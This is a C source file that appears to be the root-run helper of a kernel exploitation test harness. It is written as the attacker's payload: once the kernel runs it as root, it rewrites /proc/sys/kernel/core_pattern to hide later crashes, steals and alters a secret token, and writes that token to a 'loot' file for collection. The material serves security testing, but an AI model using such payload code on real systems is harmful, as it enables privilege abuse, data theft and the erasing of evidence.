// SPDX-License-Identifier: GPL-2.0-only
/* A program of the attacker that the kernel is made to run as root. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "helper.h"

#define SECRET	HELPER_DIR "secret"
#define LOOT	HELPER_DIR "loot"
#define WAIT_MS	10000

static void write_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT, mode);

	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		_exit(1);
	close(fd);
}

void helper_main(void)
{
	char token[TOKEN_LEN + 1] = "";
	int fd;

	if (getuid())
		return;

	/* Later crashes in this guest are nobody's business. */
	write_file("/proc/sys/kernel/core_pattern", "core\n", 0);
	fd = open(SECRET, O_RDWR);
	if (fd < 0 || pread(fd, token, TOKEN_LEN, 0) != TOKEN_LEN ||
	    pwrite(fd, ALTERED, strlen(ALTERED), 0) != (ssize_t)strlen(ALTERED))
		_exit(1);
	/* Whole at once, for who polls. */
	write_file(LOOT ".new", token, 0644);
	rename(LOOT ".new", LOOT);
	_exit(0);
}

void helper_collect(void)
{
	char token[TOKEN_LEN];
	int fd = -1, ms;

	for (ms = 0; fd < 0 && ms < WAIT_MS; ms += 10) {
		usleep(10000);
		fd = open(LOOT, O_RDONLY);
	}
	if (fd < 0 || read(fd, token, TOKEN_LEN) != TOKEN_LEN || !is_token(token))
		die("the kernel did not run the helper");
	report_loot(token);
}

void dump_core(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die_errno("fork");
	if (!pid)
		abort();
	if (waitpid(pid, NULL, 0) != pid)
		die_errno("waiting for a crash");
}
